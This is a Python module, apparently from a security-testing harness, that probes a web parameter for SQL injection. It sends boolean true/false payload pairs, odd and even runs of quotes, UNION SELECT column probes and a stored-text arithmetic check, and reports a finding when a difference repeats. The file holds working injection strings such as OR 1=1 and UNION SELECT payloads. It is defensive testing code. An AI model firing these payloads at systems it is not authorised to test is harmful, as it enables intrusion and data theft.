"""SQL injection (CWE-89), told by what comes back: true/false pairs, quotes that break and mend, unions. No timing.

It refuses a difference seen once: a pair counts when another pair of the same shape shows the same two answers, so that
neither a volatile field nor a search that splits words is taken for an injection.
"""

import random
from collections.abc import Callable, Sequence

from harness_probe import cannot_run, exploited
from harness_probe.attacks.attempts import Attempts, Call, Send, controlled, masked, shown
from harness_probe.attacks.faces import Face, face, mark, moving
from harness_probe.client import Response

Place = Callable[[str], Call]  # the request with a text in the place under attack
# {v} is a value that works, {a} and {b} equal in the true half of a pair and different in the false one
PAIRS = (
    "{v}' AND '{a}'='{b}",
    "{v}' AND {a}={b} -- ",
    "{v}') AND ('{a}'='{b}",
    "{v}') AND {a}={b} -- ",
    '{v}" AND "{a}"="{b}',
    "{v}%' AND '{a}' LIKE '{b}",
    "{v}' OR '{a}'='{b}",
    "{v}' OR {a}={b} -- ",
    "{v}') OR ('{a}'='{b}",
    "{v}') OR {a}={b} -- ",
    "{v} AND {a}={b}",
    "{v}) AND ({a}={b}",
    "{v} OR {a}={b}",
)
# An expression where a name or a number stands: fine when the condition holds, an integer overflow when not.
EXPRESSION = "(CASE WHEN {a}={b} THEN 1 ELSE abs(-9223372036854775807-1) END)"
DIGITS = ((3, 4), (7, 8), (5, 6))  # constants of the pairs: one to find a difference, the others to confirm it
COLUMNS = 14
SILENT = (408, 425, 429, 503)  # answers about the moment, not about the text


def text(send: Send, place: Place, value: str, foreign: Sequence[str] = ()) -> None:
    """A parameter that takes text and reads: a filter, a search, an id in the path.

    value: a text that works; foreign: marks in other people's data, which no answer may show.
    """
    tries, restless = _controlled(send, place, value, foreign)
    for template in PAIRS:
        _pair(tries, send, place, template.replace("{v}", value), foreign, restless)
    for quote in ("'", '"'):
        _quotes(tries, send, place, value, quote)
    _union(tries, send, place, value, foreign)
    tries.end()


def expression(send: Send, place: Place, value: str, foreign: Sequence[str] = ()) -> None:
    """A parameter that takes a name or a number: sort, limit, offset, cursor."""
    tries, restless = _controlled(send, place, value, foreign)
    for prefix in ("", "-", f"{value},", f"{value} AND ", "1,"):
        _pair(tries, send, place, prefix + EXPRESSION, foreign, restless)
    _pair(tries, send, place, f"{value} AND {{a}}={{b}}", foreign, restless)
    for payload in ("1 UNION SELECT NULL", "0) OR 1=1 -- ", "' OR 1=1 -- ", f"{value} LIMIT 1000 -- ", "-1"):
        answer = tries.send(place(payload), send)
        _shows(answer, payload, foreign)
    tries.end()


def stored(send: Send, write: Place, read: Callable[[Response], Call | None], rng: random.Random) -> None:
    """A text that is stored: the answer to `write` is given to `read`, which says how to read it back (None = by the
    answer itself). Evaluated text comes back computed; a quote that breaks the statement is mended by a second one."""
    tries = Attempts()
    controlled(send, write("plain words"), "storing a text")
    left, right = rng.randrange(1_000_003, 9_999_991), rng.randrange(1_000_003, 9_999_991)  # their product is a mark
    product = str(left * right)
    payloads = [
        f"x' || ({left}*{right}) || 'y",
        f"x'||({left}*{right})||'y",
        f"x', ({left}*{right})) -- ",
        f'x" || ({left}*{right}) || "y',
        f"x' + CAST({left}*{right} AS TEXT) + 'y",
    ]
    for payload in payloads:
        answer = tries.send(write(payload), send)
        if answer is None:
            continue
        back = read(answer) if answer.status_code < 300 else None
        again = tries.send(back, send) if back is not None else answer
        if again is not None and product in masked(again, payload):
            exploited(f"{payload!r} was evaluated: {shown(again)}")
    for quote in ("'", '"'):
        _quotes(tries, send, write, "x", quote)
    controlled(send, write("plain words again"), "storing a text after the attempts")
    tries.end()


def _controlled(send: Send, place: Place, value: str, foreign: Sequence[str]) -> tuple[Attempts, set[str]]:
    for text in foreign:
        mark(text)
    first = controlled(send, place(value), "a legitimate value")
    _shows(first, value, foreign)
    again = controlled(send, place(value), "a legitimate value")
    restless = moving(face(first, value), face(again, value))
    if not any(path for path in face(first, value).without(restless).values):
        cannot_run(f"control: {place(value)} is answered differently each time; read something steadier")
    return Attempts(), restless


def _pair(tries: Attempts, send: Send, place: Place, template: str, foreign: Sequence[str], restless: set[str]) -> None:
    """A difference between true and false that two more pairs repeat."""
    seen: tuple[Face, Face] | None = None
    for same, other in DIGITS:
        halves = []
        for second in (same, other):
            payload = template.replace("{a}", str(same)).replace("{b}", str(second))
            answer = tries.send(place(payload), send)
            _shows(answer, payload, foreign)
            if answer is None or answer.status_code in SILENT:
                return
            worked = answer.status_code < 300
            halves.append(face(answer, payload).without(restless) if worked else Face(answer.status_code, {}))
        if halves[0] == halves[1] or (seen is not None and tuple(halves) != seen):
            return
        if not any(half.status < 300 or half.status >= 500 for half in halves):
            return
        seen = (halves[0], halves[1])
    assert seen is not None
    yes, no = seen
    exploited(
        f"a condition inside the text decides the answer: {template!r} gives {yes.status} "
        f"({sum(map(len, yes.values.values()))} values) when true, {no.status} "
        f"({sum(map(len, no.values.values()))}) when false, three times"
    )


def _quotes(tries: Attempts, send: Send, place: Place, value: str, quote: str) -> None:
    """Odd numbers of quotes break the statement, even ones do not; twice."""
    statuses = []
    for count in (1, 2, 3, 4):
        answer = tries.send(place(value + quote * count), send)
        if answer is None or answer.status_code in SILENT:
            return
        statuses.append(answer.status_code)
    one, two, three, four = statuses
    if min(one, three) >= 500 > max(two, four):
        exploited(f"one quote {quote} breaks the statement ({one}), two mend it ({two}), three break it, four mend it")


def _union(tries: Attempts, send: Send, place: Place, value: str, foreign: Sequence[str]) -> None:
    """A computed marker comes back as if it were stored."""
    marker, product = "(7919333*6007891)", str(7919333 * 6007891)
    for closing in ("' ", "') ", '" ', " "):
        for count in range(1, COLUMNS + 1):
            payload = f"{value}-none{closing}UNION SELECT {','.join([marker] * count)} -- "
            answer = tries.send(place(payload), send)
            _shows(answer, payload, foreign)
            if answer is not None and product in masked(answer, payload):
                exploited(f"a union of {count} columns was read back: {shown(answer)}")


def _shows(answer: Response | None, payload: str, foreign: Sequence[str]) -> None:
    found = [text for text in foreign if answer is not None and text in masked(answer, payload)]
    if found and answer is not None:
        exploited(f"{payload!r} shows what belongs to somebody else ({found[0]!r}): {shown(answer)}")
